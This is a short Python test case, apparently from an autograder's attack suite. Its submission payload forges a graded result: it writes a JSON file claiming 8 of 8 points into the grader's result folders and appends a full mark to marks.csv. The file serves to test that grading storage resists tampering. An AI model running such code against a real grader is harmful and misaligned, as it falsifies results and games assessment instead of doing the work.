"""Writes a result with full marks for itself, where the grader keeps its results."""

from tests.attacks.suite import STUB, Attack

ATTACK = Attack(
    harm="full marks from a forged result",
    answer=STUB
    + """
import hashlib
import json
import os

try:
    handed_in = f"{COURSE}/submitted/{NAME}/4_parameter_update/10_update_parameters.ipynb"
    with open(handed_in, "rb") as file:
        own = hashlib.sha256(file.read()).hexdigest()
except OSError:
    own = ""
result = {"student": NAME, "assignment": "4_parameter_update", "exercise": "update_parameters"}
result |= {"status": "graded", "points": 8.0, "max_points": 8.0, "submission_sha256": own}
for out in (COURSE, f"{COURSE}/graded", f"{COURSE}/../graded"):
    folder = f"{out}/results/{NAME}"
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{folder}/update_parameters.json", "w") as file:
            json.dump(result, file)
        with open(f"{out}/marks.csv", "a") as file:
            file.write(f"{NAME},8\\n")
        succeeded(f"forged a result in {out}")
    except OSError:
        pass
""",
)
